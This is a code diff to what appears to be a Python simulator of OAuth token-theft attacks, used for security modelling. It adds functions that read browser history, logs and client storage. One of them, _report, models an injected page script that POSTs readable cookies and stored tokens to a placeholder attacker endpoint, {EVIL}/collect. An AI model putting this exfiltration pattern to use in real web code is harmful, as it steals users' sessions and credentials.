@@ -149,7 +149,7 @@ def call_api(world: World, actor: str, args: grammar.CallApi) -> Outputs:
         return {}
     if CAST[args.api].kind == "api" and client.lacks_token(session, resource):
         _token_for(world, client, browser, session, resource)
-    client.call(session, request, resource, client.sender(browser))
+    client.fetch(browser, session, request, resource)
     return {}
 
 
@@ -301,18 +301,16 @@ def read(world: World, actor: str, args: grammar.Read) -> Outputs:
     if args.log is not None:
         return _read_log(world, args.log, args.match)
     if args.history is not None:
-        return _read_history(world, args.history, args.match)
+        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
     if args.storage is not None:
-        client = world.clients[args.storage]
-        found = [client.session_in(world.browsers[args.browser])] if args.browser else list(client.sessions.values())
-        return _take(world, (s for s in found if s is not None), f"the storage of {args.storage}", None)
+        return _read_storage(world, args.storage, args.browser, args.take)
     return _read_device(world, args.device or "")
 
 
 def _read_log(world: World, party: str, match: str | None) -> Outputs:
     """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
     if party in world.browsers:
-        return _read_history(world, party, match)
+        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
     entries = world.apis[party].log if party in world.apis else []
     entry = next((r for r in reversed(entries) if match is None or match in r.url), None)
     if entry is None:
@@ -328,13 +326,40 @@ def _read_log(world: World, party: str, match: str | None) -> Outputs:
     return {"request": None, "url": entry.url, "access_token": None}
 
 
-def _read_history(world: World, browser: str, match: str | None) -> Outputs:
-    url = next((u for u in reversed(world.browsers[browser].history) if match is None or match in u), None)
+def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
+    """The newest address that matches, and the token in it if there is one."""
+    url = next((u for u in reversed(addresses) if match is None or match in u), None)
     if url is None:
         return {"url": None, "access_token": None}
-    world.net.learned(world.attacker.name, "url", url, f"the history of {browser}")
+    world.net.learned(world.attacker.name, "url", url, source)
     parts = split(url)
     return {"url": url, "access_token": first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")}
+
+
+def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
+    """All that a client has stored: on its server, or in one browser."""
+    client = world.clients[name]
+    if browser is None:
+        return _take(world, client.sessions.values(), f"the storage of {name}")
+    session = client.stored(world.browsers[browser])
+    if client.in_page:
+        out = _report(client, world.browsers[browser], session)
+    else:
+        out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
+    if take and session is not None:
+        session.tokens.clear()
+        session.refresh_token = session.id_token = ""
+    return out
+
+
+def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
+    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
+    jar = browser.cookies.get(split(client.home).netloc, {})
+    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
+    held = _held_by(session)
+    storage = {k: v for k, v in held.items() if v}
+    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    return held
 
 
 def _read_device(world: World, device: str) -> Outputs:
@@ -348,10 +373,10 @@ def _read_device(world: World, device: str) -> Outputs:
                 key = client.proof_key(session)
                 world.attacker.keep(key)
                 world.net.learned(world.attacker.name, "key", key.thumbprint, device)
-    return _take(world, found, device, None)
+    return _take(world, found, device)
 
 
-def _take(world: World, sessions: Iterable[Session], source: str, match: str | None) -> Outputs:
+def _take(world: World, sessions: Iterable[Session], source: str) -> Outputs:
     out: Outputs = {"access_token": None, "refresh_token": None, "id_token": None}
     for session in sessions:
         held = _held_by(session)
